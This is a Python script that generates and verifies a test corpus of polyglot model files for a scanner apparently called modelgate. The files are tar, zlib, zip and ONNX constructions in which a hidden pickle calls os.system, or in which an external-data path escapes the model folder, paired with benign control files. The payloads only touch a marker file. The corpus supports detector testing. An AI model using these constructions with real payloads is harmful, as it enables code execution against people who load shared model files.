#!/usr/bin/python3
"""Writes samples/routing-bypass/: files that a real loader reads as another format than the one
modelgate's sniffer ranked first, each proven here by running that loader.

A loader routes on its own test of byte 0 (torch.load tries `tarfile.open` on every non-zip file
before unpickling; joblib.load picks a decompressor by the first bytes) or on the end of the file
(Python's zipfile finds the end-of-central-directory record behind any prefix), or parses fields in
any order (protobuf). The attacks:

- legacy-stream-spans-tar.pt: a legacy `torch.save` stream in the first tar header's name field
  whose one ByteStorage's raw bytes span the rest of the file; torch.load opens the file as a tar
  and unpickles the member `storages`.
- legacy-stream-tar.pt: a short legacy torch stream (magic, protocol, sys_info, {}, []) in the name
  field, the tar behind it; torch.load takes the tar.
- joblib-zf-header-tar.pt / .bin: joblib's old zfile header (`ZF` + size + zlib) in the name field.
- gguf-header-tar.bin, npy-header-tar.bin, mxnet-header-tar.bin: a GGUF v3 / .npy / MXNet .params
  header in the name field. All of these are tars whose member `storages` is a pickle torch.load runs.
- zlib-header-tar.joblib: a tar whose first header is also a zlib stream (not terminated: its
  last block is a stored block running to the end of the file) carrying a pickle; joblib.load
  routes on the zlib prefix and runs it. modelgate analyses what the stream decodes to before its
  end (the stream does not end: container/malformed-stream) and finds the payload.
- long-text-torch-zip.txt: more than 64 KiB of text followed by a torch.save zip. torch.load
  refuses it (it wants `PK\\3\\4` at byte 0); Python's zipfile opens it behind the text, and
  unpickling its archive/data.pkl runs the payload (the proof below does exactly that).
- long-text-zipapp.txt: more than 64 KiB of text followed by a zip with a __main__.py;
  `python3 long-text-zipapp.txt` runs it.
- onnx-reordered-traversal.pb / .bin: an onnx.helper model with its top-level fields written in
  another order (opset_import, graph, producer, ir_version last) and one initializer whose
  external data location `w/../../outside.txt` leaves the model's folder; onnx.load parses it and
  reads that outside file into the tensor (onnx 1.12 strips only leading `/` and `.`).

Benign controls, written by the real tools, must stay clean: benign-tarfile.tar (tarfile),
benign-legacy.pt (`torch.save(..., _use_new_zipfile_serialization=False)`; its storage key is an
address, so its bytes change from run to run), benign-joblib-zlib.joblib and
benign-joblib-lzma.joblib (joblib.dump with compression), benign-long-notes.txt (> 64 KiB of text),
benign-helper.onnx and benign-helper.pb (onnx.helper), benign-reordered.pb (the same model, fields
reordered, no external data).

Payloads are harmless: the pickles run `touch routing-bypass.marker` in the current directory, the
zipapp touches the same file, and the ONNX model reads a file next to its folder. Every attack is
run here with its real loader in a subprocess inside a fresh temporary directory, and the marker
(for ONNX: the outside file's bytes in the tensor) must appear; every control must load without
it. Run from the repository root with /usr/bin/python3 (torch, joblib, numpy, onnx).
"""
import io
import json
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib

import joblib
import numpy as np
import onnx
import torch
from onnx import TensorProto, helper

OUT = os.path.join("samples", "routing-bypass")
AREA = "routing-bypass"
MARKER = "routing-bypass.marker"
PAYLOAD = b"cos\nsystem\n(S'touch " + MARKER.encode() + b"'\ntR."
OUTSIDE = b"routing-bypass: bytes from outside the model folder\n"
TEXT_BYTES = 66 * 1024  # more than the sniffer's 64 KiB head
expected = {}


def put(name, data):
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    return os.path.join(OUT, name)


def expect(name, verdict, rules=(), absent=(), callee=None):
    entry = {"verdict": verdict}
    if rules:
        entry["rules"] = list(rules)
    if absent:
        entry["absentRules"] = list(absent)
    if callee:
        entry["callee"] = callee
    expected[f"{AREA}/{name}"] = entry


# --- byte layouts -------------------------------------------------------------------------------


def tar_with_name_field(prefix, members):
    """A ustar archive written by tarfile whose first header's name field (100 bytes) is `prefix`,
    its checksum recomputed: tarfile (torch.load) still reads every member. Cut after the
    end-of-archive blocks (tarfile pads to 10 KiB)."""
    assert len(prefix) <= 100, len(prefix)
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
        end = tar.offset + 1024
    b = bytearray(buf.getvalue()[:end])
    b[0:100] = prefix + b"\0" * (100 - len(prefix))
    b[148:156] = b" " * 8
    b[148:156] = b"%06o\0 " % sum(b[0:512])
    return bytes(b)


def torch_tar(prefix):
    """A legacy-torch tar: a placeholder first member (its name replaced) and `storages`, a pickle."""
    return tar_with_name_field(prefix, [("placeholder", b""), ("storages", PAYLOAD)])


LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def legacy_stream_spanning(total):
    """A legacy torch.save stream (magic, protocol 1001, sys_info, one ByteStorage) whose storage's
    raw bytes run to byte `total`: the whole tar behind it is storage data to a pickle reader."""
    magic = b"\x80\x02\x8a\x0a" + LEGACY_MAGIC.to_bytes(10, "little") + b"."
    proto = b"M\xe9\x03."
    info = b"}."

    def main(n):
        return b"(U\x07storagectorch\nByteStorage\nU\x010U\x03cpuM" + struct.pack("<H", n) + b"NtQ."

    keys = b"]U\x010a."
    head = len(magic + proto + info + main(0) + keys) + 8
    n = total - head
    return magic + proto + info + main(n) + keys + struct.pack("<Q", n)


def legacy_stream_spans_tar():
    total = len(torch_tar(legacy_stream_spanning(4096)))
    out = torch_tar(legacy_stream_spanning(total))
    assert len(out) == total
    return out


def legacy_stream_short():
    parts = [LEGACY_MAGIC, 1001, {}, {}, []]
    return b"".join(pickle.dumps(p, 2) for p in parts)


def joblib_zf_header():
    inner = b"\x80\x02N."
    return b"ZF" + hex(len(inner)).encode().ljust(19) + zlib.compress(inner)


def gguf_header():
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 0)


def npy_header():
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (0,), }\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header


def mxnet_header():
    return struct.pack("<QQQQ", 0x112, 0, 0, 0)


def zlib_header_tar():
    """A tar whose first header opens a zlib stream: a deflate block holding the pickle, then a
    stored block running over the rest of the file (never terminated)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(PAYLOAD) + c.flush(zlib.Z_SYNC_FLUSH)
    prefix = b"\x78\x01" + block
    data = b"hello world\n" * 10
    probe = tar_with_name_field(b"x", [("notes.txt", data)])
    stored = len(probe) - (len(prefix) + 5)
    assert stored < 65536
    name = prefix + b"\x00" + struct.pack("<HH", stored, stored ^ 0xFFFF)
    return tar_with_name_field(name, [("notes.txt", data)])


def long_text(title):
    line = b"lorem ipsum dolor sit amet, consectetur adipiscing elit\n"
    text = b"# " + title.encode() + b"\n"
    while len(text) < TEXT_BYTES:
        text += line
    return text


class Touch:
    def __reduce__(self):
        return (os.system, ("touch " + MARKER,))


def torch_zip_with_payload():
    # The payload first: a plain unpickler stops at the tensor's persistent id after it ran.
    buf = io.BytesIO()
    torch.save({"x": Touch(), "w": torch.zeros(2)}, buf)
    return buf.getvalue()


def zipapp():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        info = zipfile.ZipInfo("__main__.py", date_time=(2020, 1, 1, 0, 0, 0))
        z.writestr(info, "import os\nos.system('touch " + MARKER + "')\n", zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def onnx_model(external):
    if external:
        w = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[2])
        w.data_location = TensorProto.EXTERNAL
        entry = w.external_data.add()
        entry.key, entry.value = "location", "w/../../outside.txt"
    else:
        w = helper.make_tensor("W", TensorProto.FLOAT, [2], [1.0, 2.0])
    graph = helper.make_graph(
        [helper.make_node("Identity", ["W"], ["Y"])],
        "g",
        [],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [2])],
        [w],
    )
    model = helper.make_model(graph, producer_name="routing-bypass", opset_imports=[helper.make_opsetid("", 13)])
    model.ir_version = 8
    return model.SerializeToString()


def varint(b, at):
    value = shift = 0
    while True:
        byte = b[at]
        at += 1
        value |= (byte & 0x7F) << shift
        shift += 7
        if byte < 0x80:
            return value, at


def reorder_fields(b, order):
    """Rewrites a protobuf message's top-level fields in another order (same bytes per field)."""
    fields = []
    at = 0
    while at < len(b):
        start = at
        key, at = varint(b, at)
        wire = key & 7
        if wire == 0:
            _, at = varint(b, at)
        elif wire == 2:
            n, at = varint(b, at)
            at += n
        else:
            raise ValueError(f"wire type {wire}")
        fields.append((key >> 3, b[start:at]))
    rank = {f: i for i, f in enumerate(order)}
    fields.sort(key=lambda f: rank.get(f[0], len(order)))
    out = b"".join(raw for _, raw in fields)
    assert len(out) == len(b)
    return out


# ModelProto: opset_import (8), graph (7), producer_name (2), ir_version (1) last.
ONNX_ORDER = [8, 7, 2, 1]

# --- proofs -------------------------------------------------------------------------------------

LOADERS = {
    "torch.load": "import sys, torch\ntorch.load(sys.argv[1])\n",
    "joblib.load": "import sys, joblib\njoblib.load(sys.argv[1])\n",
    # What Python's zipfile-based readers do: open the archive behind the text, unpickle data.pkl.
    "zipfile+pickle": (
        "import pickle, sys, zipfile\n"
        "z = zipfile.ZipFile(sys.argv[1])\n"
        "name = next(n for n in z.namelist() if n.endswith('/data.pkl'))\n"
        "pickle.loads(z.read(name))\n"
    ),
    "onnx.load": (
        "import sys, onnx\n"
        "m = onnx.load(sys.argv[1])\n"
        "sys.stdout.buffer.write(m.graph.initializer[0].raw_data)\n"
    ),
    # controls
    "tarfile": "import sys, tarfile\nprint(tarfile.open(sys.argv[1]).getnames())\n",
    "text": "import sys\nprint(len(open(sys.argv[1], encoding='utf-8').read()))\n",
    "onnx.checker": "import sys, onnx\nonnx.checker.check_model(onnx.load(sys.argv[1]))\nprint('ok')\n",
}


def run_loader(path, loader):
    """Runs `loader` on a copy of `path` in a fresh temporary directory (cwd). For ONNX the model
    sits in model/ (with the w/ folder its location walks through) and outside.txt beside it."""
    with tempfile.TemporaryDirectory(prefix="routing-bypass-") as tmp:
        model_dir = os.path.join(tmp, "model")
        os.makedirs(os.path.join(model_dir, "w"))
        copy = os.path.join(model_dir, os.path.basename(path))
        shutil.copyfile(path, copy)
        with open(os.path.join(tmp, "outside.txt"), "wb") as f:
            f.write(OUTSIDE)
        if loader == "python3":
            argv = [sys.executable, copy]
        else:
            argv = [sys.executable, "-c", LOADERS[loader], copy]
        done = subprocess.run(argv, cwd=tmp, capture_output=True, timeout=300)
        return done, os.path.exists(os.path.join(tmp, MARKER))


def prove_attack(name, loader):
    done, marked = run_loader(os.path.join(OUT, name), loader)
    if loader == "onnx.load":
        ok = done.returncode == 0 and done.stdout == OUTSIDE
    else:
        ok = marked
    if not ok:
        sys.exit(f"{name}: {loader} did not run the payload\n{done.stderr.decode(errors='replace')[-2000:]}")
    print(f"proven: {loader} {name}")


def prove_control(name, loader):
    done, marked = run_loader(os.path.join(OUT, name), loader)
    if done.returncode != 0 or marked:
        sys.exit(f"{name}: {loader} failed on a control\n{done.stderr.decode(errors='replace')[-2000:]}")
    print(f"loads: {loader} {name}")


# --- samples ------------------------------------------------------------------------------------

if os.path.isdir(OUT):
    shutil.rmtree(OUT)
os.makedirs(OUT)

DANGER = ["format/polyglot", "pickle/dangerous-global"]
attacks = []


def attack(name, data, loader, rules=DANGER, verdict="malicious", callee="os.system"):
    put(name, data)
    expect(name, verdict, rules, callee=callee)
    attacks.append((name, loader))


attack("legacy-stream-spans-tar.pt", legacy_stream_spans_tar(), "torch.load")
attack("legacy-stream-tar.pt", torch_tar(legacy_stream_short()), "torch.load")
# A torch name: joblib content does not satisfy it (torch.load reads no joblib zfile).
attack("joblib-zf-header-tar.pt", torch_tar(joblib_zf_header()), "torch.load", [*DANGER, "format/claim-unmet"])
attack("joblib-zf-header-tar.bin", torch_tar(joblib_zf_header()), "torch.load")
attack("gguf-header-tar.bin", torch_tar(gguf_header()), "torch.load")
attack("npy-header-tar.bin", torch_tar(npy_header()), "torch.load")
attack("mxnet-header-tar.bin", torch_tar(mxnet_header()), "torch.load")
# The zlib stream never ends (container/malformed-stream); what it decodes to before its end is
# analysed, as joblib unpickles it: the payload.
attack(
    "zlib-header-tar.joblib",
    zlib_header_tar(),
    "joblib.load",
    [*DANGER, "container/malformed-stream"],
)
attack(
    "long-text-torch-zip.txt",
    long_text("notes") + torch_zip_with_payload(),
    "zipfile+pickle",
    callee="posix.system",
)
attack(
    "long-text-zipapp.txt",
    long_text("notes") + zipapp(),
    "python3",
    ["format/polyglot", "zip/prepended-data", "repo/risky-code"],
    callee=None,
)
for ext in ("pb", "bin"):
    attack(
        f"onnx-reordered-traversal.{ext}",
        reorder_fields(onnx_model(True), ONNX_ORDER),
        "onnx.load",
        ["onnx/external-data-traversal"],
        callee=None,
    )

controls = []


def control(name, data, loader):
    put(name, data)
    expect(name, "clean")
    controls.append((name, loader))


buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
    for member, data in [("README.md", b"# weights\n"), ("config.json", b'{"hidden": 4}\n')]:
        info = tarfile.TarInfo(member)
        info.size, info.mtime, info.mode = len(data), 1577836800, 0o644
        tar.addfile(info, io.BytesIO(data))
control("benign-tarfile.tar", buf.getvalue(), "tarfile")

buf = io.BytesIO()
torch.save({"weight": torch.arange(4, dtype=torch.float32)}, buf, _use_new_zipfile_serialization=False)
control("benign-legacy.pt", buf.getvalue(), "torch.load")

for compressor in ("zlib", "lzma"):
    buf = io.BytesIO()
    joblib.dump({"coef": np.arange(4, dtype=np.float64), "name": "ridge"}, buf, compress=(compressor, 3))
    control(f"benign-joblib-{compressor}.joblib", buf.getvalue(), "joblib.load")

control("benign-long-notes.txt", long_text("benign notes"), "text")
control("benign-helper.onnx", onnx_model(False), "onnx.checker")
control("benign-helper.pb", onnx_model(False), "onnx.checker")
control("benign-reordered.pb", reorder_fields(onnx_model(False), ONNX_ORDER), "onnx.checker")

for name, loader in attacks:
    prove_attack(name, loader)
for name, loader in controls:
    prove_control(name, loader)

with open(os.path.join(OUT, "expected.json"), "w") as f:
    json.dump(expected, f, indent=1, sort_keys=True)
    f.write("\n")
print(f"wrote {len(expected)} samples to {OUT}")
